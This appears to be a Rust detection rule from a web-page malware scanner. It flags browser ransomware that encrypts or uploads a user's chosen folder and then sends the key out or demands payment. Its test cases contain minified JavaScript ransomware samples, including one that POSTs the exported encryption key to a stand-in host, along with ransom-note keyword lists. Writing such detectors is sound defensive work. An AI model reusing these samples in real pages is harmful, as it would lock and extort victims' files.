//! `files-locked`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "files-locked",
    description: "The page asks for a folder, encrypts or uploads its files, and sends the key out or demands a ransom.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::Encrypt, Atom::FormContents])],
    within: 0,
    only_if: Some(locks),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "const d=await showDirectoryPicker();for await(const h of d.values()){const b=await (await h.getFile()).arrayBuffer();const e=await crypto.subtle.encrypt(a,k,b);const w=await h.createWritable();await w.write(e)}fetch('https://k.example/',{method:'POST',body:await crypto.subtle.exportKey('raw',k)})",
            "const d=await showDirectoryPicker();const f=new FormData();for await(const[n,h] of d.entries()){f.append('files',await h.getFile(),n)}const r=await fetch('/c',{method:'POST',body:f});const w=await(await d.getFileHandle('a.zip',{create:true})).createWritable();await w.write(await r.blob());title.textContent='Pay us to get your files back!'",
        ],
        without: &[
            "const d=await showDirectoryPicker();const f=new FormData();for await(const[n,h] of d.entries()){f.append('files',await h.getFile(),n)}const r=await fetch('/zip',{method:'POST',body:f});const w=await(await d.getFileHandle('a.zip',{create:true})).createWritable();await w.write(await r.blob());title.textContent='Your files are packed'",
            "const d=await showDirectoryPicker();for await(const h of d.values()){list(h.name)}",
            "const f=await showOpenFilePicker();const e=await crypto.subtle.encrypt(a,k,await f.getFile());const w=await out.createWritable();await w.write(e)",
        ],
    },
};

/// Whether files of a folder are written over with what was encrypted, and a key goes to a server or a note is left.
fn locks(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 260);
    let folder = near.has_word(&["showDirectoryPicker"])
        && near.has_word(&["createWritable"])
        && near.has_word(&["getFile"]);
    let key = near.has_word(&["exportKey", "wrapKey"])
        && near.has_fact(&[Atom::Request, Atom::Post, Atom::PostMethod]);
    // A note for people: a list of what was done is for the program itself.
    let left = near.words(&["getFileHandle"]).any(|at| {
        near.is(at + 1, b'(')
            && near.kind(at + 2) == Some(Kind::Str)
            && near.is(at + 3, b',')
            && !near.word(at + 2).ends_with(".json")
    });
    let note =
        left && near.has_text(&["encrypted", "locked", "decrypt", "restore", "recover", "ransom", "bitcoin"]);
    if !folder || !near.has_word(&["values", "entries", "keys"]) {
        return false;
    }
    if Near::is_place_of(evidence, held, &[Atom::Encrypt]) {
        return key || note;
    }
    let demanded = || {
        near.has_text(&["pay us", "pay to", "ransom", "bitcoin"])
            && near.has_text(&["files back", "your files", "decrypt", "hacked"])
    };
    near.has_fact(&[Atom::Post, Atom::PostMethod]) && demanded()
}
